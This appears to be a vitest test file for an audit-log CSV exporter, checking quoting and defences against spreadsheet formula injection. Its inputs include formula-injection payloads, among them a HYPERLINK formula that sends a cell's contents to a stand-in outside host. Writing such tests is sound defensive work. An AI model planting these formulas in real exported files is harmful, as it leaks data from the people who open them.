import { describe, expect, it } from 'vitest';
import { csvCell, csvEntry } from '#server/domain/audit/csv.ts';

describe('a cell', () => {
  it.each([
    ['web/app:1.0', '"web/app:1.0"'],
    ['says "no", twice', '"says ""no"", twice"'],
    ['two\nlines', '"two\nlines"'],
    ['', '""'],
    ['a=b-c@d', '"a=b-c@d"'],
    ['3 - 4', '"3 - 4"'],
  ])('holds %j as it is', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    ' =1+1',
    '\t=1+1',
    '\rx',
    '\uFF1D1+1',
    '=HYPERLINK("http://elsewhere.example/?"&A1,"open")',
  ])('keeps %j from being computed', (text) => {
    expect(csvCell(text)).toMatch(/^"'/);
  });

  it.each(['x;=1+1', 'x\n=1+1', 'x\t-2', 'x; @SUM(A1)'])('keeps what follows a divider in %j too', (text) => {
    expect(csvCell(text)).toMatch(/[;\n\t]'\s*[=\-@]/);
  });
});

it('an entry is one line, with the time in UTC', () => {
  const entry = {
    id: 7,
    username: 'mei',
    resource: 'web/app:1.0',
    resourceType: 'tag',
    operation: 'delete',
    description: 'delete tag: web/app:1.0',
    succeeded: false,
    atMs: Date.UTC(2026, 10, 20, 8, 30, 1, 5),
    projectId: 3,
    address: '192.0.2.7',
    requestId: 'r-1',
    before: null,
    after: null,
  };
  expect(csvEntry(entry)).toBe(
    '"2026-11-20T08:30:01.005Z","mei","delete","tag","web/app:1.0","refused","192.0.2.7","r-1","3","delete tag: web/app:1.0"\r\n',
  );
});
